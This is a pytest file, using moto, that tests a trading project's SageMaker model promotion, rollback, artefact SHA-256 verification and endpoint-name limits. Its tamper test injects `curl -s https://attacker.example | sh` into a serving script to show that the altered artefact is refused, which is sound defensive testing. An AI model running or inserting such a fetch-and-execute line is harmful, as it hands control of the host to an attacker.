"""Promotion redeploys the serverless endpoint; rollback redeploys the restored version (moto).

moto models SageMaker's control plane: models, endpoint configurations and endpoints are
created and described, nothing is pulled or served. It has no UpdateEndpoint, so
``cst_devtools.moto_shims.update_endpoint`` applies the new configuration as the real call does when
the update completes; InService/Updating transitions are not modelled. Serving itself is proven
by ``tests/integration/test_ml_training.py`` (``ml/inference.py`` functions on real rows).
"""

from __future__ import annotations

import hashlib
import io
import tarfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import boto3
import pytest
from moto.sagemaker.responses import SageMakerResponse

from cryptosmarttrader.adapters.aws_clients import AwsClients
from cryptosmarttrader.adapters.model_registry_sagemaker import SageMakerModelRegistry
from cryptosmarttrader.adapters.sagemaker_deployer import (
    SERVING_PREFIX_MAX,
    DeploymentError,
    SageMakerEndpointDeployer,
    ranking_serving_name,
    serving_name,
)
from cryptosmarttrader.adapters.xgb_predictor import XgbPredictor
from cryptosmarttrader.domain.clock import FixedClock
from cryptosmarttrader.domain.model_canary import ModelStage
from cryptosmarttrader.handlers import _common, model_canary
from cryptosmarttrader.services.model_lifecycle import TrainedModel
from cryptosmarttrader.services.model_registry import ModelRegistryError, ModelRegistryService
from cryptosmarttrader.settings import AwsResources
from cst_devtools.moto_shims import update_endpoint
from tests.integration.test_ml_training import (  # noqa: F401 - fixtures
    cleared,
    trained_models,
    universe,
)
from tests.support.aws import moto_stack

pytestmark = pytest.mark.realdata

REGION, BUCKET, TABLE, GROUP = "us-east-1", "deploy-lake", "deploy-state", "cst-daily-ml"
ENDPOINT = "cst-daily-ml"
ROLE = "arn:aws:iam::123456789012:role/cst-sagemaker"
IMAGE = "683313688378.dkr.ecr.us-east-1.amazonaws.com/sagemaker-xgboost:1.7-1"
SERVING = (Path(__file__).parents[2] / "ml" / "inference.py").read_bytes()


@dataclass
class Env:
    sm: Any
    clients: AwsClients
    service: ModelRegistryService


@pytest.fixture
def env(monkeypatch: pytest.MonkeyPatch) -> Iterator[Env]:
    monkeypatch.setattr(SageMakerResponse, "update_endpoint", update_endpoint, raising=False)
    resources = AwsResources(lake_bucket=BUCKET, state_table=TABLE, region=REGION)
    with moto_stack(monkeypatch, resources, now=datetime(2019, 7, 1, tzinfo=UTC)) as clients:
        sm = boto3.client("sagemaker", region_name=REGION)
        registry = SageMakerModelRegistry(
            GROUP, sagemaker=sm, s3=clients.s3, bucket=BUCKET, image_uri=IMAGE,
            serving_code=SERVING,
        )  # fmt: skip
        registry.ensure_group()
        deployer = SageMakerEndpointDeployer(
            sm, s3=clients.s3, group=GROUP, endpoint=ENDPOINT, role_arn=ROLE
        )
        clock = FixedClock(datetime(2019, 7, 1, tzinfo=UTC))
        yield Env(sm, clients, ModelRegistryService(registry, clock, deployer))


def _register(env: Env, model: TrainedModel) -> int:
    """Register ``model`` with evidence that clears the skill gate (promotion mechanics)."""
    model = cleared(model)
    assert isinstance(model.predictor, XgbPredictor)
    return env.service.register(model.card, model.predictor.to_bytes(), model.reference).version


def _served(env: Env) -> tuple[str, dict[str, Any]]:
    """(package ARN the endpoint's model comes from, the serverless variant)."""
    endpoint = env.sm.describe_endpoint(EndpointName=ENDPOINT)
    config = env.sm.describe_endpoint_config(EndpointConfigName=endpoint["EndpointConfigName"])
    (variant,) = config["ProductionVariants"]
    model = env.sm.describe_model(ModelName=variant["ModelName"])
    assert model["ExecutionRoleArn"] == ROLE
    container = model["PrimaryContainer"]
    assert container["Environment"]["SAGEMAKER_SUBMIT_DIRECTORY"] == "/opt/ml/model/code"
    return container["ModelPackageName"], variant


def _package(env: Env, version: int) -> dict[str, Any]:
    packages = env.sm.list_model_packages(ModelPackageGroupName=GROUP)["ModelPackageSummaryList"]
    arn = next(p["ModelPackageArn"] for p in packages if p["ModelPackageVersion"] == version)
    return dict(env.sm.describe_model_package(ModelPackageName=arn))


def test_promote_serves_the_approved_package_and_rollback_serves_the_previous_one(
    env: Env,
    trained_models: Mapping[str, TrainedModel],  # noqa: F811
) -> None:
    # Given two real models registered in SageMaker's registry
    v1, v2 = _register(env, trained_models["weak"]), _register(env, trained_models["full"])
    # When v1 is promoted (no endpoint yet), then v2, then v2 is rolled back
    env.service.promote(v1, "bootstrap", "ops")
    first_package, variant = _served(env)
    env.service.promote(v2, "beat v1 in the canary", "ops")
    second_package, _ = _served(env)
    env.service.rollback("live losses", "ops")
    restored_package, _ = _served(env)
    # Then each time the endpoint's model comes from the approved package of the version in
    # production, on one serverless variant
    assert first_package == _package(env, v1)["ModelPackageArn"]
    assert second_package == _package(env, v2)["ModelPackageArn"]
    assert restored_package == first_package
    assert _package(env, v1)["ModelApprovalStatus"] == "Approved"
    assert variant["ServerlessConfig"] == {"MemorySizeInMB": 2048, "MaxConcurrency": 5}
    # and the package's tarball carries the serving script the endpoint runs
    url = _package(env, v1)["InferenceSpecification"]["Containers"][0]["ModelDataUrl"]
    body = env.clients.s3.get_object(Bucket=BUCKET, Key=url.removeprefix(f"s3://{BUCKET}/"))
    with tarfile.open(fileobj=io.BytesIO(body["Body"].read()), mode="r:gz") as tar:
        assert set(tar.getnames()) == {"model.json", "card.json", "code/inference.py"}
        member = tar.extractfile("code/inference.py")
        assert member is not None and member.read() == SERVING
    # and the rollback reused v1's model and configuration instead of creating new ones
    assert len(env.sm.list_endpoint_configs()["EndpointConfigs"]) == 2
    assert len(env.sm.list_models()["Models"]) == 2


def test_a_failed_deployment_leaves_the_registry_as_it_was(
    env: Env,
    trained_models: Mapping[str, TrainedModel],  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Given v1 served, and an endpoint update that fails (moto without the shim answers an error)
    v1, v2 = _register(env, trained_models["weak"]), _register(env, trained_models["full"])
    env.service.promote(v1, "bootstrap", "ops")
    monkeypatch.delattr(SageMakerResponse, "update_endpoint")
    # When v2 is promoted
    with pytest.raises(ModelRegistryError, match="not promoted: deploying it to endpoint"):
        env.service.promote(v2, "try", "ops")
    # Then v1 is still the production version, approved and served; v2 is where it was
    assert env.service.get(v1).stage is ModelStage.PRODUCTION
    assert env.service.get(v2).stage is ModelStage.REGISTERED
    assert _package(env, v2)["ModelApprovalStatus"] == "PendingManualApproval"
    assert _served(env)[0] == _package(env, v1)["ModelPackageArn"]


def test_the_canary_promote_step_redeploys_the_endpoint(
    env: Env,
    trained_models: Mapping[str, TrainedModel],  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Given the canary Lambda configured as CDK configures it (SageMaker registry + endpoint)
    version = _register(env, trained_models["full"])
    env.service.move(env.service.get(version), ModelStage.SHADOW, "canary", "tests")
    env.service.move(env.service.get(version), ModelStage.CANARY, "canary", "tests", 0.01)
    for key, value in {"CST_LAKE_BUCKET": BUCKET, "CST_STATE_TABLE": TABLE, "AWS_REGION": REGION,
                       "CST_MODEL_REGISTRY": "sagemaker", "CST_MODEL_IMAGE_URI": IMAGE,
                       "CST_MODEL_ENDPOINT": ENDPOINT, "CST_MODEL_ROLE_ARN": ROLE,
                       "POWERTOOLS_TRACE_DISABLED": "true"}.items():  # fmt: skip
        monkeypatch.setenv(key, value)
    _common.reset_caches()
    model_canary._service.cache_clear()

    @dataclass
    class Context:
        function_name: str = "canary"
        memory_limit_in_mb: int = 2048
        invoked_function_arn: str = "arn:aws:lambda:us-east-1:123456789012:function:canary"
        aws_request_id: str = "req-promote"

    # When the state machine's Promote task invokes it
    result = model_canary.handler({"action": "promote", "version": version}, Context())  # type: ignore[arg-type]
    model_canary._service.cache_clear()
    # Then the version is in production and the endpoint serves its package
    assert result["stage"] == "production"
    assert _served(env)[0] == _package(env, version)["ModelPackageArn"]


def _tarball_key(env: Env, version: int) -> str:
    url = _package(env, version)["InferenceSpecification"]["Containers"][0]["ModelDataUrl"]
    return str(url).removeprefix(f"s3://{BUCKET}/")


def _tampered(tarball: bytes) -> bytes:
    """The same model.tar.gz with its serving script replaced (what SageMaker would run)."""
    out = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(tarball), mode="r:gz") as src,
        tarfile.open(fileobj=out, mode="w:gz") as dst,
    ):
        for member in src.getmembers():
            handle = src.extractfile(member)
            body = handle.read() if handle else b""
            if member.name == "code/inference.py":
                body += b"\nimport os; os.system('curl -s https://attacker.example | sh')\n"
                member.size = len(body)
            dst.addfile(member, io.BytesIO(body))
    return out.getvalue()


def test_registration_records_the_sha256_of_the_artefact_it_deploys(
    env: Env,
    trained_models: Mapping[str, TrainedModel],  # noqa: F811
) -> None:
    # Given a registered version
    version = _register(env, trained_models["weak"])
    # Then the package's metadata holds the SHA-256 of its model.tar.gz, and keeps it through
    # stage changes (the metadata map is rewritten on every save)
    body = env.clients.s3.get_object(Bucket=BUCKET, Key=_tarball_key(env, version))["Body"].read()
    expected = hashlib.sha256(body).hexdigest()
    assert _package(env, version)["CustomerMetadataProperties"]["cst_tarball_sha256"] == expected
    env.service.move(env.service.get(version), ModelStage.SHADOW, "shadow", "tests")
    assert _package(env, version)["CustomerMetadataProperties"]["cst_tarball_sha256"] == expected


def test_a_tampered_artefact_is_refused_with_a_reason_and_nothing_is_served(
    env: Env,
    trained_models: Mapping[str, TrainedModel],  # noqa: F811
) -> None:
    # Given v1 served, and v2 registered, whose model.tar.gz is then rewritten in S3 with a
    # changed serving script (a role that may write under models/ could do that)
    v1, v2 = _register(env, trained_models["weak"]), _register(env, trained_models["full"])
    env.service.promote(v1, "bootstrap", "ops")
    key = _tarball_key(env, v2)
    original = env.clients.s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()
    env.clients.s3.put_object(Bucket=BUCKET, Key=key, Body=_tampered(original))

    # When v2 is promoted
    with pytest.raises(ModelRegistryError) as refused:
        env.service.promote(v2, "beat v1", "ops")

    # Then the deployment is refused, saying the artefact changed after registration; the
    # endpoint still serves v1, and the registry is as it was
    message = str(refused.value)
    assert "not promoted" in message and "changed after registration" in message
    assert f"{GROUP}/v{v2}" in message and key in message
    assert _served(env)[0] == _package(env, v1)["ModelPackageArn"]
    assert env.service.get(v2).stage is ModelStage.REGISTERED
    assert len(env.sm.list_models()["Models"]) == 1  # no model was created for v2

    # and once the registered bytes are back, the same promotion goes through
    env.clients.s3.put_object(Bucket=BUCKET, Key=key, Body=original)
    env.service.promote(v2, "beat v1", "ops")
    assert _served(env)[0] == _package(env, v2)["ModelPackageArn"]


def test_a_version_without_a_recorded_digest_is_not_served(
    env: Env,
    trained_models: Mapping[str, TrainedModel],  # noqa: F811
) -> None:
    # Given a package whose metadata lost (or never had) its digest
    version = _register(env, trained_models["weak"])
    arn = _package(env, version)["ModelPackageArn"]
    meta = dict(_package(env, version)["CustomerMetadataProperties"])
    meta.pop("cst_tarball_sha256")
    env.sm.update_model_package(ModelPackageArn=arn, CustomerMetadataProperties=meta)

    # When it is promoted, Then it is refused: an unverifiable artefact is not served
    with pytest.raises(ModelRegistryError, match="no SHA-256 of its model artefact recorded"):
        env.service.promote(version, "bootstrap", "ops")
    assert env.sm.list_endpoints()["Endpoints"] == []


def test_a_serving_name_over_63_characters_is_refused_and_nothing_is_deployed(
    env: Env,
    trained_models: Mapping[str, TrainedModel],  # noqa: F811
) -> None:
    # Given a deployer whose endpoint name leaves no room for "-v<N>-<sha8>" within SageMaker's
    # 63 characters (a cut name could be an earlier version's: its model would be reused)
    v1 = _register(env, trained_models["weak"])
    long_name = "cst-daily-ml-" + "x" * 45
    deployer = SageMakerEndpointDeployer(
        env.sm, s3=env.clients.s3, group=GROUP, endpoint=long_name, role_arn=ROLE
    )
    service = ModelRegistryService(env.service.registry, env.service.clock, deployer)

    # When the version is promoted
    with pytest.raises(ModelRegistryError) as refused:
        service.promote(v1, "bootstrap", "ops")

    # Then the promotion is refused with the reason, nothing is created in SageMaker, and
    # the registry is as it was
    assert "over SageMaker's 63: name the endpoint with at most 40 characters" in str(refused.value)
    assert env.sm.list_models()["Models"] == []
    assert env.sm.list_endpoint_configs()["EndpointConfigs"] == []
    assert env.sm.list_endpoints()["Endpoints"] == []
    assert env.service.get(v1).stage is ModelStage.REGISTERED
    # and with the stack's endpoint, the names are the shared function's, uncut
    env.service.promote(v1, "bootstrap", "ops")
    arn = _package(env, v1)["ModelPackageArn"]
    digest = hashlib.sha256(arn.encode()).hexdigest()
    (model,) = env.sm.list_models()["Models"]
    assert model["ModelName"] == serving_name(GROUP, v1, digest, what="model package group")
    served = env.sm.describe_endpoint(EndpointName=ENDPOINT)["EndpointConfigName"]
    assert served == serving_name(ENDPOINT, v1, digest, what="endpoint")
    assert served == f"{ENDPOINT}-v{v1}-{digest[:8]}"


def test_the_classifier_and_the_ranking_deployers_share_the_refusal() -> None:
    digest = "ab" * 32
    assert serving_name("e" * SERVING_PREFIX_MAX, 10**12 - 1, digest, what="x") == (
        "e" * SERVING_PREFIX_MAX + f"-v{10**12 - 1}-abababab"
    )
    with pytest.raises(DeploymentError, match="name the model package group with at most 40"):
        serving_name("g" * 52, 1, digest, what="model package group")
    with pytest.raises(DeploymentError, match="name the ranking endpoint with at most 40"):
        ranking_serving_name("r" * 52, 1, digest)
